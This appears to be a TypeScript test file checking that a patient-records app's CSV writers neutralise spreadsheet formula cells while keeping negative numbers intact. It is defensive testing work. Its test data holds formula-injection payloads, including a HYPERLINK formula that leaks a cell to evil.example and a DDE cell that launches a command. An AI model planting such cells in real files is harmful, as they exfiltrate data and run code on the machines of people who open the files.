/**
 * Every CSV Recare writes opens safely in a spreadsheet: hostile cells go in through an import,
 * come out through the rejected-rows file and the outcome export, and are read back with csv-parse.
 * Each written cell that starts with a formula character must be neutralised (a leading `'`),
 * except a plain negative number, which stays a number.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, readCsvTable } from '../../src/importers/index.js';
import { exportOutcomes } from '../../src/use-cases/export-outcomes.js';
import { importCsvRecords } from '../../src/use-cases/import-csv.js';
import { writeRejectedRows } from '../../src/use-cases/write-rejected-rows.js';
import { backends, openTestStore, type TestStore } from '../helpers/databases.js';
import { csv, importDeps } from './import-helpers.js';

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&B3,"Open chart")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  '-',
];
const negativeNumbers = ['-12.50', '-7', '-.5'];

async function collect(chunks: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const chunk of chunks) text += chunk;
  return text;
}

/** The cells of a written CSV as a spreadsheet would receive them. */
function cellsOf(text: string): string[][] {
  return parse(text, { relax_column_count: true }) as string[][];
}

function expectSpreadsheetSafe(rows: string[][]): void {
  for (const cell of rows.flat()) {
    if (/^[=+\-@\t\r]/.test(cell)) expect(negativeNumbers, `written cell ${JSON.stringify(cell)}`).toContain(cell);
  }
}

describe('one CSV cell writer', () => {
  it('neutralises a cell a spreadsheet would run, and quotes it', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`);
    expect(csvCell('+15125550143')).toBe(`"'+15125550143"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
  });

  it('leaves plain negative numbers and ordinary text alone', () => {
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell('-7')).toBe('-7');
    expect(csvCell('Ana')).toBe('Ana');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell("O'Brien")).toBe("O'Brien");
  });
});

describe.each(backends)('CSV written by Recare opens safely on %s', (backend) => {
  let t: TestStore;
  beforeAll(async () => {
    t = await openTestStore(backend);
  });
  afterAll(async () => t.dispose());

  it('rejected.csv neutralises hostile cells and headers, keeps negative numbers, and reads back as written', async () => {
    const header = ['patient_id', 'first_name', 'last_name', 'status', 'balance', '=cmd'];
    const rows = hostile.map((cell, i) => [`r${i}`, cell, cell, 'zombie', negativeNumbers[i % negativeNumbers.length] as string, cell]);
    const quoteCell = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
    const text = csv([header.join(','), ...rows.map((r) => r.map(quoteCell).join(','))]);
    const summary = await importCsvRecords(importDeps(t.store), { kind: 'patients', source: [text], file: 'hostile.csv' });
    expect(summary.counts).toMatchObject({ read: hostile.length, inserted: 0, rejected: hostile.length });

    const written = await collect(writeRejectedRows({ store: t.store }, summary.importRunId as number));
    const parsed = cellsOf(written);
    expect(parsed[0]).toEqual(['patient_id', 'first_name', 'last_name', 'status', 'balance', "'=cmd", 'reason']);
    // The import reads every line break as LF (CRLF, LF and lone CR are one line end), inside quoted cells too.
    const asStored = rows.map((r) => r.map((cell) => cell.replace(/\r\n?/g, '\n')));
    expect(parsed.slice(1).map((r) => r.slice(0, 6))).toEqual(asStored.map((r) => r.map((cell) => (/^[=+\-@\t\r]/.test(cell) && !negativeNumbers.includes(cell) ? `'${cell}` : cell))));
    expectSpreadsheetSafe(parsed);

    // The office fixes the file and imports it again: Recare reads the guarded cells as they were given.
    const reread: string[][] = [];
    for await (const event of readCsvTable([written], { file: 'rejected.csv' })) {
      if (event.type === 'header') reread.push(event.columns);
      if (event.type === 'row') reread.push(event.cells.slice(0, 6));
    }
    expect(reread).toEqual([[...header, 'reason'], ...asStored]);
  });

  it('export outcomes --format csv neutralises hostile notes and patient ids', async () => {
    const patients = await importCsvRecords(importDeps(t.store), {
      kind: 'patients', file: 'patients.csv', sourceName: 'probe',
      source: [csv(['patient_id,first_name,last_name', '"@SUM(1+1)",Ana,Lopez', '"-2+3",Ben,Ray'])],
    });
    expect(patients.counts).toMatchObject({ inserted: 2, rejected: 0 });
    const notes = [...hostile, ...negativeNumbers];
    const contactRows = notes.map((note, i) => `"${i % 2 === 0 ? '@SUM(1+1)' : '-2+3'}",2026-04-0${1 + (i % 9)}T10:00-05:00,voice,out,left_message,"${note.replace(/"/g, '""')}"`);
    const contacts = await importCsvRecords(importDeps(t.store), {
      kind: 'contacts', file: 'contacts.csv', sourceName: 'probe', source: [csv(['patient_id,at,channel,direction,outcome,note', ...contactRows])],
    });
    expect(contacts.counts).toMatchObject({ inserted: notes.length, rejected: 0 });

    const written = await collect(exportOutcomes({ store: t.store, clock: importDeps(t.store).clock }, { since: null, format: 'csv' }));
    const parsed = cellsOf(written);
    expect(parsed).toHaveLength(1 + notes.length);
    const noteColumn = parsed[0]?.indexOf('note') as number;
    const idColumn = parsed[0]?.indexOf('patient_id') as number;
    expect(new Set(parsed.slice(1).map((r) => r[idColumn]))).toEqual(new Set(["'@SUM(1+1)", "'-2+3"]));
    // The importer trims a note, so the tab- and CR-led ones arrive as `=1+1`.
    expect(parsed.slice(1).map((r) => r[noteColumn]).sort()).toEqual(notes.map((n) => n.trim()).map((n) => (negativeNumbers.includes(n) ? n : `'${n}`)).sort());
    expectSpreadsheetSafe(parsed);
  });
});
